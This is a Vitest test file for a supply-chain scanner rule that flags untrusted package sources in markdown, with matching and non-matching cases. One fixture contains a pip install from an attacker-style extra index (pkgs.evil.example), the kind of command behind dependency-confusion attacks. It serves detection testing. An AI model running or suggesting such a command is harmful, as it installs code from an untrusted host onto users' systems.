import { describe } from 'vitest';
import { itFires, itStaysQuiet, md } from '../../test/rule-cases.js';

describe('supply-chain', () => {
  itFires([
    {
      name: 'custom index',
      files: md('pip install --extra-index-url https://pkgs.evil.example/simple internal-utils'),
      rule: 'SUPPLY_CHAIN_UNTRUSTED_SOURCE',
      severity: 'HIGH',
    },
    { name: 'install from git', files: md('pip install git+https://github.com/someone/tool.git'), rule: 'SUPPLY_CHAIN_UNTRUSTED_SOURCE', severity: 'MEDIUM' },
  ]);

  itStaysQuiet([
    {
      name: 'install docs',
      files: md(
        '```bash\nnpm install\npip install -r requirements.txt\nbrew install jq\nexport PATH="$HOME/.local/bin:$PATH"\n```\nSee https://docs.example.org/setup.',
      ),
    },
    { name: 'pinned registry install', files: md('pip install requests==2.32.3\nnpm install lodash@4.17.21') },
  ]);
});
